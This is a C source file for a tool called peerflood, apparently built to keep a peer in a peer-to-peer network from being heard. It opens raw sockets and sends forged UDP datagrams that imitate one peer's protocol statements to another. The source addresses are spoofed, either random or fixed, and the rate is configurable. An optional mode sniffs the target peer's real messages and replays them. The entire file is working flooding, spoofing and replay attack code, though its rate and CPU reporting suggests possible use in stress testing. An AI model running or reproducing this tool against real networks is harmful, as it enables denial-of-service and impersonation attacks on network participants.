/* SPDX-License-Identifier: ISC */
/*
 * peerflood: who wants a peer not to be heard.  Datagrams of a statement's
 * form, in the name of one peer to another, with all else by chance, so many a
 * second, from addresses by chance in 6.0.0.0/8, or all from one.
 *
 *	peerflood [-r] ADDRESS PORT SENDER RECEIVER RATE [FROM]
 *
 * -r: what the sender itself is seen to say here is sent again in turn, and
 * nothing before there is any.  SENDER and RECEIVER are public keys.  On SIGTERM or SIGINT it ends and
 * tells what was done:
 *
 *	peerflood sent=N ms=N cpu_ms=N rate=N
 */
#include <sys/types.h>
#include <sys/socket.h>

#include <arpa/inet.h>
#include <err.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define DATA    166 /* of a statement with one network */
#define KEPT    64 /* records */
#define BATCH   64
#define TICK_NS 1000000

struct packet {
	struct ip ip;
	struct udphdr udp;
	uint8_t data[DATA];
} __attribute__((__packed__));

static volatile sig_atomic_t stop;
static struct packet packet[BATCH];
static struct mmsghdr msg[BATCH];
static struct iovec iov[BATCH];
static struct in_addr from; /* 0: by chance */
static struct record {
	size_t len;
	uint8_t data[DATA];
} record[KEPT];
static size_t nrecords; /* so many were made, and may be over older ones */
static int tap = -1; /* they come from there */
static unsigned int batch = BATCH; /* sent at once */

static void
on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static int64_t
clock_ns(clockid_t clock)
{
	struct timespec ts;

	clock_gettime(clock, &ts);
	return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
}

/* RFC 4648: the first octets of a key. */
static void
key_id(const char *text, uint8_t id[8])
{
	static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmn"
				     "opqrstuvwxyz0123456789+/";
	const char *d;
	uint32_t bits = 0, n = 0, i = 0;

	for (; i < 8; text++) {
		if (*text == '\0' || (d = strchr(digits, *text)) == NULL)
			errx(1, "not a key");
		bits = bits << 6 | (uint32_t)(d - digits);
		n += 6;
		if (n >= 8) {
			n -= 8;
			id[i++] = (uint8_t)(bits >> n);
		}
	}
}

static void
fill(struct packet *p, const char *to, uint16_t port, const char *sender,
    const char *receiver)
{
	p->ip.ip_v = 4;
	p->ip.ip_hl = 5;
	p->ip.ip_ttl = 64;
	p->ip.ip_p = IPPROTO_UDP;
	p->ip.ip_len = htons(sizeof(*p));
	if (inet_pton(AF_INET, to, &p->ip.ip_dst) != 1)
		errx(1, "not an address: %s", to);
	p->udp.uh_sport = p->udp.uh_dport = htons(port);
	p->udp.uh_ulen = htons(sizeof(p->udp) + sizeof(p->data));
	/* no checksum: it need not have one (RFC 768) */
	memcpy(p->data, (const uint8_t[]){ 0xdf, 0x70, 1, 1 }, 4);
	key_id(sender, p->data + 4);
	key_id(receiver, p->data + 12);
}

/* Copies that pass by several of our interfaces are the same. */
static int
is_kept(const uint8_t *data, size_t len)
{
	size_t i;

	for (i = 0; i < nrecords && i < KEPT; i++)
		if (record[i].len == len &&
		    memcmp(record[i].data, data, len) == 0)
			return 1;
	return 0;
}

/* Statements of the one that is to be kept from being heard. */
static void
keep(const uint8_t *buf, size_t len)
{
	size_t head = (size_t)(buf[0] & 15) * 4 + sizeof(struct udphdr);
	const uint8_t *ours = packet[0].data;
	struct record *r = &record[nrecords % KEPT];

	if (len <= head + 12 || len - head > DATA || buf[9] != IPPROTO_UDP ||
	    memcmp(buf + head, ours, 12) != 0 ||
	    is_kept(buf + head, len - head))
		return;
	r->len = len - head;
	memcpy(r->data, buf + head, r->len);
	nrecords++;
}

static void
listen_in(void)
{
	struct sockaddr_ll by;
	socklen_t n = sizeof(by);
	uint8_t buf[1500];
	ssize_t len;

	while ((len = recvfrom(tap, buf, sizeof(buf), MSG_DONTWAIT,
		    (struct sockaddr *)&by, &n)) > 0)
		if (by.sll_pkttype != PACKET_OUTGOING) /* our own, too */
			keep(buf, (size_t)len);
}

static void
replay(struct packet *p, struct iovec *v)
{
	static size_t next;
	size_t n = nrecords < KEPT ? nrecords : KEPT;
	const struct record *r = &record[next++ % n];

	memcpy(p->data, r->data, r->len);
	p->udp.uh_ulen = htons((uint16_t)(sizeof(p->udp) + r->len));
	v->iov_len = sizeof(*p) - DATA + r->len;
	p->ip.ip_len = htons((uint16_t)v->iov_len);
}

/* Another one of each. */
static void
shuffle(void)
{
	static uint64_t seed = 1;
	size_t i, j;

	for (i = 0; i < batch; i++) {
		seed = seed * 6364136223846793005u + 1;
		packet[i].ip.ip_src = from;
		if (from.s_addr == 0)
			packet[i].ip.ip_src.s_addr =
			    htonl(0x06000000 | (uint32_t)(seed >> 40));
		if (nrecords > 0) {
			replay(&packet[i], &iov[i]);
			continue;
		}
		for (j = 20; j + 8 <= DATA; j += 8) {
			seed = seed * 6364136223846793005u + 1;
			memcpy(packet[i].data + j, &seed, sizeof(seed));
		}
	}
}

/* True if something is to be sent; what could not be is not made up for. */
static int
has_some(int64_t *began)
{
	if (tap == -1)
		return 1;
	listen_in();
	if (nrecords == 0)
		*began = clock_ns(CLOCK_MONOTONIC);
	return nrecords > 0;
}

int
main(int argc, char *argv[])
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	uint64_t sent = 0;
	int64_t began, ns, due;
	int s, n, i;
	double rate;

	if (argc > 1 && strcmp(argv[1], "-r") == 0) {
		tap = socket(
		    AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETHERTYPE_IP));
		if (tap == -1)
			err(1, "packet socket");
		batch = 1; /* so that none comes in between */
		argc--;
		argv++;
	}
	if (argc < 6 || argc > 7)
		errx(2, "usage: peerflood [-r] ADDRESS PORT SENDER RECEIVER "
			"RATE [FROM]");
	if (argc == 7 && inet_pton(AF_INET, argv[6], &from) != 1)
		errx(2, "not an address: %s", argv[6]);
	rate = atof(argv[5]);
	if ((s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW)) == -1)
		err(1, "socket");
	for (i = 0; i < BATCH; i++) {
		fill(&packet[i], argv[1], (uint16_t)atoi(argv[2]), argv[3],
		    argv[4]);
		iov[i].iov_base = &packet[i];
		iov[i].iov_len = sizeof(packet[i]);
		msg[i].msg_hdr.msg_iov = &iov[i];
		msg[i].msg_hdr.msg_iovlen = 1;
		msg[i].msg_hdr.msg_name = &to;
		msg[i].msg_hdr.msg_namelen = sizeof(to);
	}
	to.sin_addr = packet[0].ip.ip_dst;
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	began = clock_ns(CLOCK_MONOTONIC);
	while (!stop) {
		due = (int64_t)((double)(clock_ns(CLOCK_MONOTONIC) - began) *
				rate / 1e9);
		if (!has_some(&began) || (int64_t)sent + batch > due) {
			nanosleep(&(struct timespec){ 0, TICK_NS }, NULL);
			continue;
		}
		shuffle();
		if ((n = sendmmsg(s, msg, batch, 0)) == -1)
			err(1, "send");
		sent += (uint64_t)n;
	}
	ns = clock_ns(CLOCK_MONOTONIC) - began;
	printf("peerflood sent=%llu ms=%lld cpu_ms=%lld rate=%lld\n",
	    (unsigned long long)sent, (long long)(ns / 1000000),
	    (long long)(clock_ns(CLOCK_PROCESS_CPUTIME_ID) / 1000000),
	    (long long)((double)sent * 1e9 / (double)ns));
	return 0;
}
